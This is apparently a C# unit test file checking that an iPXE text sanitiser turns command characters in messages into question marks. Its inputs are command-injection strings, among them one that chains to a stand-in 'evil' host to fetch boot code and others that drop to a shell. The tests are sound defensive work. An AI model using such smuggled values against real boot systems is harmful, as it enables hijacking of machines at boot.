using Sidus.Wire.Ipxe;

namespace Sidus.Wire.Tests.Ipxe;

/// <summary>Text from the inventory or an error message put on an iPXE line can never become a command.</summary>
public sealed class IpxeTextTests
{
    [Theory]
    [InlineData("image a ; shell", "image a , shell")]
    [InlineData("x || chain http://evil/", "x ?? chain http://evil/")]
    [InlineData("x && shell", "x ?? shell")]
    [InlineData("${net0/mac} #comment", "??net0/mac? ?comment")]
    [InlineData("quote\" back\\slash\nnext", "quote? back?slash?next")]
    public void Message_CommandCharacters_BecomeQuestionMarks(string text, string expected) =>
        Assert.Equal(expected, IpxeText.Message(text));

    [Fact]
    public void Message_PlainText_IsKept() =>
        Assert.Equal("node n1: no image (set one: sidus node set n1 --image demo@2)", IpxeText.Message("node n1: no image (set one: sidus node set n1 --image demo@2)"));
}
